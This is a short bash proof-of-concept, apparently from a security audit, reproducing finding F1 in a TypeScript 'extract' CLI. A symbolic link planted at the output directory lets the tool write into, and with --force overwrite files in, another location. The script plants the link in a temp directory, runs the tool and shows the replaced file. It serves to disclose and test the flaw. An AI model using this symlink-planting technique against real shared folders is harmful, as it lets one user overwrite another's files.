#!/usr/bin/env bash
# Finding F1: `extract <evidence> <dir>` writes through a symbolic link planted AT <dir> (or at any directory
# on its path): mkdirSync/statSync/accessSync follow it, and each file is created and renamed inside the link's
# target. With --force, files of the same name there are replaced. O_NOFOLLOW covers only the last component.
set -u
cd "$(dirname "$0")/../.."
W=$(mktemp -d /tmp/attack34-x.XXXXXX)
mkdir "$W/shared" "$W/victim"
echo "operator's own file" > "$W/victim/Signature1.p7s"
ln -s "$W/victim" "$W/shared/out"          # planted by another user of the shared folder
npx tsx cli/main.ts extract samples/valid/archive.pdf "$W/shared/out" --force >/dev/null; echo "extract exit $?"
echo "victim directory now holds:"; ls "$W/victim"
head -c 20 "$W/victim/Signature1.p7s" | od -c | head -1
rm -rf "$W"
